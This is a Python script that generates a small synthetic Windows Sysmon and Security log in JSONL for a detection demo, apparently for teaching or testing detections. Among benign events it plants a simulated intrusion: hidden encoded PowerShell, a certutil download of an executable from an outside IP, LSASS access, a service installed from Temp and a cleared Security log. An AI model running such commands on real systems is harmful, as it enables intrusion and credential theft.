#!/usr/bin/env python3
"""Generate data/sample/sample.jsonl: a small synthetic Windows log (flat
OTRF-like layout) for the README demo when ../shared/data is absent.

Deterministic (fixed seed). Background process and logon events from a few
hosts, plus one short intrusion: an Office document starts PowerShell with an
encoded command, whoami /priv, certutil download, LSASS read access, a
service installed from Temp, and the Security log cleared.
"""
import json, random

random.seed(7)
hosts = ["WS01.corp.local", "WS02.corp.local", "SRV01.corp.local"]
benign = [r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
          r"C:\Program Files\Mozilla Firefox\firefox.exe", r"C:\Windows\System32\notepad.exe"]
events = []
t = 0
def ts(sec):
    return "2026-11-02 09:%02d:%02d.%03d" % (sec // 60 % 60, sec % 60, (sec * 37) % 1000)
def sysmon(eid, host, **kw):
    e = {"Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
         "EventID": eid, "Hostname": host}
    e.update(kw); return e
for i in range(120):
    t += random.randint(1, 20)
    h = random.choice(hosts)
    img = random.choice(benign)
    events.append(dict(sysmon(1, h, Image=img, CommandLine='"%s"' % img, ParentImage=r"C:\Windows\explorer.exe",
                              User="CORP\\user%d" % (i % 4)), TimeCreated=ts(t)))
    if i % 10 == 0:
        events.append({"Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing", "EventID": 4624,
                       "Hostname": h, "TargetUserName": "user%d" % (i % 4), "LogonType": 3,
                       "IpAddress": "10.0.0.%d" % (10 + i % 5), "TimeCreated": ts(t)})
h = "WS02.corp.local"
word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
chain = [
    sysmon(1, h, Image=ps, ParentImage=word, CommandLine="powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
           User="CORP\\user2"),
    sysmon(1, h, Image=r"C:\Windows\System32\whoami.exe", ParentImage=ps, CommandLine="whoami /priv", User="CORP\\user2"),
    sysmon(1, h, Image=r"C:\Windows\System32\certutil.exe", ParentImage=ps,
           CommandLine="certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", User="CORP\\user2"),
    sysmon(10, h, SourceImage=r"C:\Users\Public\a.exe", TargetImage=r"C:\Windows\System32\lsass.exe",
           GrantedAccess="0x1010"),
    {"Channel": "System", "SourceName": "Service Control Manager", "EventID": 7045, "Hostname": h,
     "ServiceName": "updsvc", "ImagePath": "C:\\Users\\user2\\AppData\\Local\\Temp\\upd.exe"},
    {"Channel": "Security", "SourceName": "Microsoft-Windows-Eventlog", "EventID": 1102, "Hostname": h},
]
for e in chain:
    t += 7
    e["TimeCreated"] = ts(t)
    events.append(e)
with open("data/sample/sample.jsonl", "w") as f:
    for e in events:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
